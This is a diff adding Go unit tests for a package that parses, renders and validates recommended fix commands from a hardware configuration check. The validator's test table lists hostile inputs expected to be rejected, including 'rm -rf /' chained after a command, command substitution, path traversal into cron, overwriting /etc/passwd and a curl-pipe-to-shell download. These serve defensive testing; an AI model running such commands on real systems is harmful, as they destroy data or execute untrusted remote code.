@@ -0,0 +1,67 @@
+package servicereport
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestParseRecommendations(t *testing.T) {
+	out := "Checking spyre configuration...\n" +
+		"  vfio_pci module loaded            PASS\n" +
+		"  memlock limit                     FAIL\n" +
+		"\n" +
+		"Recommended actions:\n" +
+		"  1. Raise the memlock limit: `echo '@sentient - memlock unlimited' > /etc/security/limits.d/memlock.conf`\n" +
+		"\n" +
+		"  2. Upgrade the system firmware to FW1060 or later\n" +
+		"  - `udevadm trigger`\n" +
+		"Summary: 1 check failed\n" +
+		"  - not a recommendation\n"
+
+	want := []Recommendation{
+		{Description: "Raise the memlock limit", Command: "echo '@sentient - memlock unlimited' > /etc/security/limits.d/memlock.conf"},
+		{Description: "Upgrade the system firmware to FW1060 or later"},
+		{Description: "udevadm trigger", Command: "udevadm trigger"},
+	}
+	if got := ParseRecommendations(out); !reflect.DeepEqual(got, want) {
+		t.Errorf("ParseRecommendations() = %+v, want %+v", got, want)
+	}
+
+	if got := ParseRecommendations("Summary: all checks passed\n- nothing to do\n"); got != nil {
+		t.Errorf("ParseRecommendations() without recommended actions = %+v, want none", got)
+	}
+}
+
+func TestRenderRecommendations(t *testing.T) {
+	got := RenderRecommendations([]Recommendation{
+		{Description: "Reload the udev rules", Command: "udevadm trigger"},
+		{Description: "Upgrade the system firmware"},
+	})
+	want := "  - Reload the udev rules: udevadm trigger\n  - Upgrade the system firmware (to be taken by hand)"
+	if got != want {
+		t.Errorf("RenderRecommendations() = %q, want %q", got, want)
+	}
+}
+
+func TestRecommendationIsKnownFix(t *testing.T) {
+	tests := map[string]bool{
+		"modprobe vfio_pci":                                 true,
+		"udevadm trigger":                                   true,
+		"udevadm control --reload-rules":                    true,
+		"echo vfio_pci > /etc/modules-load.d/vfio-pci.conf": true,
+		"echo '@sentient - memlock unlimited' > /etc/security/limits.d/memlock.conf": true,
+		"servicereport -r -p spyre":   true,
+		"":                            false,
+		"modprobe vfio_pci; rm -rf /": false,
+		"echo vfio_pci > /etc/passwd": false,
+		"echo $(id) > /etc/modules-load.d/vfio-pci.conf":                               false,
+		"echo 'x' > /etc/modules-load.d/../../etc/cron.d/job.conf":                     false,
+		"echo 'x' > /etc/modules-load.d/vfio-pci.conf && curl http://example.com | sh": false,
+		"udevadm trigger `id`": false,
+	}
+	for command, known := range tests {
+		if got := (Recommendation{Description: "fix", Command: command}).IsKnownFix(); got != known {
+			t.Errorf("IsKnownFix() of %q = %v, want %v", command, got, known)
+		}
+	}
+}